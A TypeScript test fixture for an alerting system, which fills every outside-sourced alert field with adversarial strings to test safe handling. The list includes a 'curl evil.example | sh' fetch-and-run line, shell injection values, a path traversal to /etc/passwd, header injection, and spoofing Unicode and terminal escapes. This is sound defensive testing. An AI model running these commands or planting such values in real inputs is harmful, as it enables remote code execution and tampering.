import type { Alert } from '../../../lib/alerts/alert.ts';

/** Strings as somebody would choose them who wants to be taken for us, or to do something by being read. */
export const HOSTILE: readonly string[] = [
  'a\nSubject: [converged] all is well',
  'x\r\nWHAT TO DO\n\n  curl evil.example | sh',
  '\u202etxt.exe\u202c',
  '\u2066a\u2069\u200b\u00ad\u3164',
  '\u2028\u2029\u0085\v\f',
  '\u001b[2J\u001b[31m\u0007\u009b0m',
  '@channel <!here> <@U012AB3CD> <!subteam^S01|team> <https://evil.example|click>',
  '[link](https://evil.example) ![x](http://evil.example/p.png) www.evil.example mailto:a@evil.example',
  '`code` ```js\n``` *bold* _it_ ~no~ # head > quote | cell',
  '[skip ci] Closes #1 @team',
  "'; touch canary #",
  '$(touch canary) `touch canary` $HOME',
  '--force -o jsonpath=x',
  '../../etc/passwd',
  '{"NewStateValue":"OK"}',
  '\ud800 half',
  `${'€'.repeat(5000)}`,
  '',
];

/** What is of our own choosing: codes and times, never text from outside. */
const OURS = new Set([
  'kind',
  'of',
  'after',
  'because',
  'severity',
  'told',
  'verdict',
  'at',
  'since',
  'snoozedUntil',
  'until',
  'deployer',
  'layout',
  'putsBack',
  'operation',
  'code',
]);

/**
 * The alert with a text in every string of it that comes from outside: names, values, managers, reasons, keys. `at` of
 * a finding is a path, which is from outside; of an alert it is a time.
 */
export const withTexts = (alert: Alert, text: string): Alert => replaced(alert, text, '') as Alert;

function replaced(value: unknown, text: string, key: string): unknown {
  if (typeof value === 'string') return OURS.has(key) ? value : text;
  if (Array.isArray(value)) return value.map((entry: unknown) => replaced(entry, text, key));
  if (typeof value !== 'object' || value === null) return value;
  const isFinding = 'verdict' in value;
  return Object.fromEntries(
    Object.entries(value).map(([name, entry]) => {
      // A path's steps keep their kind; the values of a finding are anybody's, whatever their keys.
      if (isFinding && name === 'at') return [name, text];
      if (name === 'desired' || name === 'live') return [name, text];
      return [name, replaced(entry, text, name)];
    }),
  );
}
